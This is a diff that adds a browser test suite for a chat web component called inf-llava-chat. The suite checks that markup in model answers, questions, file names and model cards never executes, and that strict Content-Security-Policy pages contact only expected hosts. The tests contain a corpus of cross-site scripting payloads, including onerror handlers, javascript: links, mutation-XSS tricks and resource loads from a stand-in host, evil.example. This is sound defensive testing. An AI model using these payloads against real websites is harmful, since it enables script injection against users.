@@ -1,0 +1,213 @@
+/** What is meant to run, and must not: markup in answers, questions, names and model cards; pages that allow little. */
+
+import assert from 'node:assert/strict';
+import { mkdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { assembleWithMock } from './harness.mjs';
+import { browser, clean, open, p, ready, says, server, site } from './stand-in.mjs';
+import { serve } from './server.mjs';
+
+const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAIAAAACCAIAAAD91JpzAAAAEElEQVR42mM4YaMBRAwQCgAjXgSxhgLRkwAAAABJRU5ErkJggg==', 'base64');
+
+/** Each would run, or fetch something of another host, where it became markup. */
+const CORPUS = [
+  '<script>hit()</script>',
+  '<img src=x onerror=hit()>',
+  '<img src=https://evil.example/x.png>',
+  '<svg/onload=hit()>',
+  '<svg><script href="https://evil.example/x.js" /></svg>',
+  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
+  '<iframe src="https://evil.example/"></iframe>',
+  '<body onload=hit()><input autofocus onfocus=hit()>',
+  '<details open ontoggle=hit()>x</details>',
+  '<video><source onerror=hit()></video>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  '<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b.png) }</style>',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<base href=https://evil.example/>',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<form action=https://evil.example/><button autofocus onfocus=hit()>',
+  '<a href="javascript:hit()">click</a>',
+  '[click](javascript:hit())',
+  '[click](JaVaScRiPt:hit() "x")',
+  '[click](data:text/html,<script>hit()</script>)',
+  '![x](https://evil.example/x.png)',
+  '![x](x "onerror=hit()")',
+  '[x]: javascript:hit()\n\n[x]',
+  '<https://evil.example/>',
+  '<javascript:hit()>',
+  '`<img src=x onerror=hit()>`',
+  '```html\n<img src=x onerror=hit()>\n```',
+  '| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |',
+  '> <img src=x onerror=hit()>\n\n- <svg/onload=hit()>\n  - <script>hit()</script>',
+  '# <img src=x onerror=hit()>',
+  '**<img src=x onerror=hit()>** *<svg/onload=hit()>* ~~<script>hit()</script>~~',
+  '&lt;img src=x onerror=hit()&gt; &#60;script&#62;hit()&#60;/script&#62;',
+  '\u0000<script>hit()</script>',
+  '<scr\u0000ipt>hit()</script>',
+  '"><script>hit()</script>',
+  "';hit();//",
+  '{{constructor.constructor("hit()")()}} ${hit()}',
+  '<!--<img src="--><img src=x onerror=hit()>',
+  '<![CDATA[<img src=x onerror=hit()>]]>',
+  '<template><script>hit()</script></template>',
+  '<inf-llava-chat src="https://evil.example/x.png"></inf-llava-chat>',
+  '<slot name="header"><img src=x onerror=hit()></slot>',
+];
+
+const ALLOWED = new Set(['P', 'UL', 'OL', 'LI', 'STRONG', 'EM', 'DEL', 'CODE', 'PRE', 'BLOCKQUOTE', 'TABLE', 'THEAD', 'TBODY', 'TR', 'TH', 'TD', 'HR', 'BR', 'DIV', 'SPAN']);
+
+/** Counts what runs, and what an answer is made of. */
+async function watch() {
+  await p.page.evaluate(() => {
+    window.hits = 0;
+    window.hit = () => (window.hits += 1);
+  });
+}
+
+async function harmless() {
+  const { hits, tags, attributes } = await p.page.evaluate(() => {
+    const root = document.querySelector('inf-llava-chat').shadowRoot;
+    const nodes = [...root.querySelectorAll('.answer *, .question *, .entry *:not(canvas), #picture-name *, .notice-title *, .notice-message *, .kept bdi *')];
+    return {
+      hits: window.hits,
+      tags: [...new Set(nodes.map(({ tagName }) => tagName))],
+      attributes: [...new Set(nodes.flatMap((node) => node.getAttributeNames()))],
+    };
+  });
+  assert.equal(hits, 0);
+  assert.deepEqual(tags.filter((tag) => !ALLOWED.has(tag) && tag !== 'BDI'), []);
+  assert.deepEqual(attributes.filter((name) => !['class', 'tabindex', 'start'].includes(name)), []);
+}
+
+test('nothing in an answer runs or fetches, and its text is there', async () => {
+  await ready();
+  await watch();
+  for (const [at, text] of CORPUS.entries()) {
+    await p.message.fill(`say: ${text}`);
+    await p.message.press('Enter');
+    await p.conversation.locator('article[data-state="done"]').nth(at).waitFor();
+  }
+  await harmless();
+  // What was taken for markup stands there as it was typed.
+  assert.equal((await p.answers.nth(0).innerText()).trim(), CORPUS[0]);
+  assert.equal(await p.page.evaluate(() => document.querySelector('inf-llava-chat').shadowRoot.querySelectorAll('.answer a').length), 0);
+  await p.page.waitForTimeout(300);
+  await harmless();
+  clean();
+});
+
+test('nor in an answer all at once, in pieces, or nested beyond measure', async () => {
+  await ready();
+  await watch();
+  const deep = ['> '.repeat(3000) + 'x', '- '.repeat(2000) + 'x', '*'.repeat(5000) + 'x' + '*'.repeat(5000), '['.repeat(4000) + '](x)', '`'.repeat(3001), '|a'.repeat(1000) + '\n' + '|-'.repeat(1000)];
+  for (const text of [CORPUS.join('\n\n'), CORPUS.join(' '), ...deep]) {
+    await p.message.fill(`say: ${text}`);
+    await p.message.press('Enter');
+    await p.status.filter({ hasText: 'Answer complete' }).waitFor();
+    await p.new_chat.click();
+    await says(p.status, 'New chat');
+  }
+  await harmless();
+  clean();
+});
+
+test('nor in a file’s name, a sample’s words, or a model’s card', async () => {
+  const evil = CORPUS.slice(0, 6).join('');
+  await mkdir(join(site.folder, 'models/evil/samples'), { recursive: true });
+  await writeFile(join(site.folder, 'models/evil/samples/1.png'), PNG);
+  await writeFile(join(site.folder, 'models/evil/samples.json'), JSON.stringify([{ image: 'samples/1.png', alt: evil, questions: [{ text: evil }] }]));
+  const manifest = { format: 'inf-llava', version: 1, name: evil, license: evil, files: [], shards: [{ file: 'a.bin', bytes: 60e6, sha256: '0'.repeat(64) }] };
+  await writeFile(join(site.folder, 'models/evil/manifest.json'), JSON.stringify(manifest));
+  await open('?model=models/evil/');
+  await watch();
+  await says(p.page.getByRole('alert'), 'Download <script>hit()</script>');
+  await says(p.page.getByRole('alert'), 'Licence of the weights: <script>');
+  await p.page.locator('.sample').waitFor();
+  await harmless();
+  await p.context.close();
+
+  await ready();
+  await watch();
+  await p.image.setInputFiles({ name: `${evil.replaceAll('/', '∕')}.png`, mimeType: 'image/png', buffer: PNG });
+  await says(p.status, 'Picture ready');
+  await p.image.setInputFiles({ name: 'broken <img src=x onerror=hit()>.png', mimeType: 'image/png', buffer: PNG.subarray(0, 9) });
+  await says(p.page.getByRole('alert'), 'onerror=hit()');
+  await harmless();
+  clean();
+});
+
+/** What a strict page allows, self-hosted: nothing more. */
+const STRICT = "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'";
+
+test('a strict page: everything works, and only the model’s host is asked', async () => {
+  const model = await serve(site.folder, { headers: { 'Access-Control-Allow-Origin': '*' } });
+  const policy = `${STRICT}; connect-src 'self' ${model.url}; require-trusted-types-for 'script'; trusted-types inf-llava`;
+  const strict = await serve(site.folder, { headers: { 'Content-Security-Policy': policy } });
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const [asked, complaints] = [new Set(), []];
+  context.on('request', (request) => asked.add(new URL(request.url()).origin));
+  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
+  page.on('pageerror', (error) => complaints.push(String(error)));
+  // Before any script: a page's own scripts are files, too.
+  await writeFile(join(site.folder, 'strict.js'), "document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => console.error(`policy: ${violatedDirective} ${blockedURI}`)); await import('./inf-llava/define.js');");
+  await writeFile(join(site.folder, 'strict.html'), `<!doctype html><html lang="en"><link rel="icon" href="icon.svg"><title>strict</title><script type="module" src="strict.js"></script><inf-llava-chat model="${model.url}models/drawn/"></inf-llava-chat>`);
+  await page.goto(`${strict.url}strict.html`);
+  const status = page.getByRole('status', { name: 'Status' });
+  await says(status, 'Ready on');
+  await page.locator('.sample').first().click();
+  await says(status, 'Picture ready');
+  await page.getByRole('list', { name: 'Questions about this sample' }).getByRole('button').first().click();
+  await says(page.locator('.answer'), 'About Sample 1');
+  await page.getByLabel('What it looks at').check();
+  await says(page.locator('.looking-word'), '1 of');
+  await page.getByText('Settings', { exact: true }).click();
+  await page.getByText('Export', { exact: true }).click();
+  await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'As JSON' }).click()]);
+  assert.deepEqual(complaints, []);
+  assert.deepEqual([...asked].sort(), [new URL(strict.url).origin, new URL(model.url).origin].sort());
+  await context.close();
+  await strict.close();
+  await model.close();
+});
+
+test('a strict page that does not name the policy is told what is missing', async () => {
+  const policy = `${STRICT}; require-trusted-types-for 'script'; trusted-types something-else`;
+  const strict = await serve(site.folder, { headers: { 'Content-Security-Policy': policy } });
+  const page = await browser.newPage();
+  await page.goto(`${strict.url}strict.html`);
+  await says(page.getByRole('alert'), 'Trusted Types policy inf-llava');
+  await page.close();
+  await strict.close();
+});
+
+test('one line from another origin: the worker starts through a blob', async () => {
+  const cdn = await serve(site.folder, { headers: { 'Access-Control-Allow-Origin': '*' } });
+  const own = await assembleWithMock();
+  await writeFile(join(own.folder, 'one-line.html'), `<!doctype html><html lang="en"><link rel="icon" href="data:,"><title>one line</title><script type="module" src="${cdn.url}inf-llava/define.js"></script><inf-llava-chat></inf-llava-chat>`);
+  const page_server = await serve(own.folder);
+  const page = await browser.newPage();
+  const complaints = [];
+  page.on('console', (message) => message.type() === 'error' && complaints.push(message.text()));
+  await page.goto(`${page_server.url}one-line.html`);
+  await says(page.getByRole('status', { name: 'Status' }), 'Ready on');
+  assert.match(page.workers()[0].url(), /^blob:/);
+  await page.locator('.sample').first().click();
+  await page.getByRole('list', { name: 'Questions about this sample' }).getByRole('button').first().click();
+  await says(page.locator('.answer'), 'About Sample 1, turn 1');
+  assert.deepEqual(complaints, []);
+  assert.deepEqual(page_server.requests, ['/one-line.html'], 'nothing else is the page’s own');
+  await page.close();
+  await page_server.close();
+  await cdn.close();
+  await own.remove();
+});
+
+test('self-hosted, no blob is used', async () => {
+  await ready();
+  assert.match(p.page.workers()[0].url(), new RegExp(`^${server.url}inf-llava/worker\\.js$`));
+  clean();
+});
